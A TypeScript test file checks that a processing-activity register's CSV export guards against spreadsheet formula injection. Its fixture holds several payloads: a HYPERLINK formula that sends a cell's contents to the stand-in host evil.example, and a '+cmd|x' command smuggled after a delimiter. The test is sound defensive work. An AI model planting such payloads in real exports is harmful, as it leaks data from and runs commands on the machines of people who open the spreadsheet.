// Attack: a processing activity whose text carries a formula after a delimiter ("Support;=HYPERLINK(…)").
// A spreadsheet set to ";" (the default in NL/DE/IT) or one that ignores quotes splits the cell there and
// runs the formula. Every field is quoted, and every formula start after a delimiter is guarded.
import { describe, expect, it } from 'vitest';
import { exportCsv, importCsv } from '../../lib/register/csv';
import { ActivityFields } from '../../lib/register/schema';
import { fullController } from '../register/fixtures';

const EVIL = ['Support;=HYPERLINK("http://evil.example/?"&A1)', 'Billing,+cmd|x', 'Tabs\t@SUM(1)', 'Line\n-2+3'];

describe('CSV export against formula injection', () => {
  it('leaves no formula start after any delimiter a spreadsheet may split on, quotes every field, and reads back the same', () => {
    const activity = ActivityFields.parse({ ...fullController, name: EVIL[0], legitimateInterest: EVIL[1], recipients: [EVIL[2]!, EVIL[3]!] });
    const csv = exportCsv([activity], 'en').slice(1);
    // Split the way the most naive spreadsheet would: on every delimiter and line end, ignoring quotes.
    for (const piece of csv.split(/[,;\t|\r\n]/)) expect(piece.replace(/^[ "]*/, ''), piece).not.toMatch(/^[=+\-@]/);
    expect(csv.split('\r\n')[0]).toMatch(/^"id","name",/);
    const back = importCsv(csv);
    expect(back.ok && back.activities[0]).toMatchObject({ name: EVIL[0], legitimateInterest: EVIL[1], recipients: [EVIL[2], EVIL[3]] });
  });
});
